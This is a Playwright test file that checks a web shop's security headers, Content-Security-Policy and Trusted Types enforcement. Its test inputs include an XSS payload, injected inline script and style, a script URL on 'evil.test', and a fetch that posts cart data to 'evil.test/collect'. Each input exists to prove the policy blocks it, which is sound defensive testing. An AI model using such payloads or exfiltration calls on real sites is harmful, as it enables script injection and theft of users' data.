import { expect, test } from './shop.ts';
import type { Shop } from './shop.ts';
import { buyFirstOf, payByCard, productName, productSlug, signInToPay } from './steps.ts';

/** Waits for the page's violation events and the browser's logs. */
async function expectRefusals(shop: Shop, ...patterns: RegExp[]) {
  for (const pattern of patterns) await expect(() => shop.expectProblem(pattern)).toPass({ timeout: 5000 });
}

// Every other test shows that the policy does not break the shop: a violation fails it (shop.ts).

test('every file has security headers and the right cache lifetime', async ({ page, shop }) => {
  const headersByPath = new Map<string, Record<string, string>>();
  page.on('response', (response) => {
    const { pathname } = new URL(response.url());
    headersByPath.set(pathname, response.headers());
  });
  const productPage = `/p/${productSlug}/`;
  const pages = ['/', productPage, '/c/women/', '/404.html'];
  for (const path of ['/c/women/', '/404.html', productPage]) await page.goto(shop.url + path);
  await expect(page.getByRole('heading', { name: productName })).toBeVisible();
  await page.goto('about:blank');
  await page.goto(shop.url);
  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();

  const policy = headersByPath.get('/')?.['content-security-policy'] ?? '';
  // The script of the pages, and that of the page for missing ones.
  expect(policy).toMatch(
    /default-src 'none'; script-src 'self'(?: 'sha256-[^']+'){2} https:\/\/js\.stripe\.com; /,
  );
  expect(policy).not.toMatch(/unsafe|\*/);
  const scripts = [...headersByPath].filter(([path]) => path.startsWith('/assets/'));
  expect(scripts.length).toBeGreaterThan(2);
  expect([...headersByPath.keys()]).toEqual(expect.arrayContaining(pages));
  for (const [path, headers] of [
    ...[...headersByPath].filter(([pathname]) => pages.includes(pathname)),
    ...scripts,
  ]) {
    expect(headers, path).toMatchObject({
      'content-security-policy': policy,
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cache-control': pages.includes(path) ? 'no-cache' : 'public, max-age=31536000, immutable',
    });
  }

  const allowed = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures: () => string[] } };
    return featurePolicy.allowedFeatures();
  });
  expect(allowed).toContain('clipboard-write');
  for (const denied of ['camera', 'clipboard-read', 'hid', 'payment', 'serial', 'usb']) {
    expect(allowed).not.toContain(denied);
  }
});

test('other sites cannot show the shop in a frame [F40]', async ({ page, shop }) => {
  await page.setContent(`<iframe src="${shop.url}/" title="the shop"></iframe>`);
  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
  await expectRefusals(shop, /^Framing .* violates .* "frame-ancestors 'none'"/);
});

for (const sendsHeaders of [true, false]) {
  test.describe(`on a host that sends ${sendsHeaders ? 'the headers' : 'no headers'}`, () => {
    test.use({ sendsHeaders });
    for (const [folder, heading] of [
      ['', 'BEST SELLING'],
      [`p/${productSlug}/`, productName],
    ] as const) {
      const tag = sendsHeaders || folder === '' ? [] : '@nightly';
      test(
        `injected scripts and styles are blocked, on /${folder} [F33] [F40]`,
        { tag },
        async ({ page, shop }) => {
          await page.route(`${shop.url}/${folder}`, async (route) => {
            const response = await route.fetch();
            const injected =
              '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
            await route.fulfill({
              response,
              body: (await response.text()).replace('</body>', `${injected}</body>`),
            });
          });
          await page.goto(`${shop.url}/${folder}`);
          await expect(page.getByRole('contentinfo')).toBeAttached();
          await expect(page.getByRole('heading', { name: heading, exact: true })).toBeVisible();
          await expect(page).not.toHaveTitle('taken over');
          await expectRefusals(
            shop,
            /Violation of script-src-elem: inline/,
            /Executing inline script violates/,
            /Violation of style-src-elem: inline/,
            /Applying inline style violates/,
          );
        },
      );

      test(
        `markup from strings and scripts from other hosts are blocked, on /${folder}`,
        { tag },
        async ({ page, shop }) => {
          await page.goto(`${shop.url}/${folder}`);
          const refusals = await page.evaluate(() => {
            const attempts = [
              () => {
                document.body.innerHTML = '<img src="x" onerror="alert(1)">';
              },
              () => {
                document.createElement('script').src = 'https://evil.test/script.js';
              },
              () => {
                const { trustedTypes } = window as unknown as {
                  trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
                };
                trustedTypes.createPolicy('unknown', { createHTML: (html: string) => html });
              },
            ];
            return attempts.map((attempt) => {
              try {
                attempt();
                return 'done';
              } catch (error) {
                return error instanceof TypeError ? 'refused' : String(error);
              }
            });
          });
          expect(refusals).toEqual(['refused', 'refused', 'refused']);
          await expectRefusals(
            shop,
            /Violation of require-trusted-types-for/,
            /requires 'TrustedHTML' assignment/,
            /requires 'TrustedScriptURL' assignment/,
            /Violation of trusted-types/,
            /policy named 'unknown' violates|Creating a TrustedTypePolicy/,
          );
        },
      );

      test(`requests to unknown hosts are blocked, on /${folder}`, { tag }, async ({ page, shop }) => {
        await page.goto(`${shop.url}/${folder}`);
        await expect(page.getByRole('contentinfo')).toBeAttached();
        await expect(page.getByRole('heading', { name: heading, exact: true })).toBeVisible();
        const outcome = await page.evaluate(() =>
          fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch(
            (error: Error) => error.name,
          ),
        );
        expect(outcome).toBe('TypeError');
        await expectRefusals(
          shop,
          /Violation of connect-src: https:\/\/evil\.test\/collect/,
          /Connecting to 'https:\/\/evil\.test\/collect' violates/,
          /Fetch API cannot load/,
        );
      });
    }

    test(
      'the payment script is allowed and opens the payment page',
      { tag: sendsHeaders ? '@nightly' : [] },
      async ({ page, shop }) => {
        const paymentPage = 'https://checkout.stripe.com/c/pay/';
        // Without a URL in the response, the shop redirects with the provider's script.
        shop.services.checkout.faults.add({ body: { id: 'cs_test_1' } });
        await page.route('https://js.stripe.com/basil/stripe.js', (route) =>
          route.fulfill({
            contentType: 'text/javascript',
            body: `window.Stripe = () => ({
            redirectToCheckout: async ({ sessionId }) => {
              location.assign('${paymentPage}' + sessionId);
              return {};
            },
          });
          window.Stripe.version = 'basil';`,
          }),
        );
        await page.route(`${paymentPage}*`, (route) =>
          route.fulfill({
            contentType: 'text/html',
            body: '<link rel="icon" href="data:,"><h1>Hosted checkout</h1>',
          }),
        );
        await page.goto(shop.url);
        await buyFirstOf(page, 'women');
        await signInToPay(page);
        await expect(page.getByRole('heading', { name: 'Hosted checkout' })).toBeVisible();
        expect(page.url()).toBe(`${paymentPage}cs_test_1`);
      },
    );
  });
}

test('a message needs no style that the policy would block', async ({ page, shop }) => {
  await page.goto(`${shop.url}/#/collections/women`);
  await page.getByRole('main').getByRole('article').first().getByRole('link').click();
  await page.getByRole('button', { name: 'ADD TO CART' }).click();
  const message = page.getByRole('status', { name: 'Messages' }).getByText('select item size');
  await expect(message).toBeVisible();
  const added = await page.evaluate(
    () => document.adoptedStyleSheets.length + document.querySelectorAll('style ~ style').length,
  );
  expect(added).toBe(0);
});

// Hosts read `_headers` only at their root.
test.describe('in a folder of a host, without headers', () => {
  test.use({ basePath: '/shop/', sendsHeaders: false });

  test('a shopper can buy from a shop in a subfolder', { tag: '@nightly' }, async ({ page, shop }) => {
    await page.goto(`${shop.url}/`);
    await buyFirstOf(page, 'men');
    await page.reload();
    await signInToPay(page);
    await payByCard(page);
    await expect(page.getByText('Your order is confirmed.')).toBeVisible();
    expect(page.url()).toContain(`${shop.url}/#/payment-success/`);
  });
});
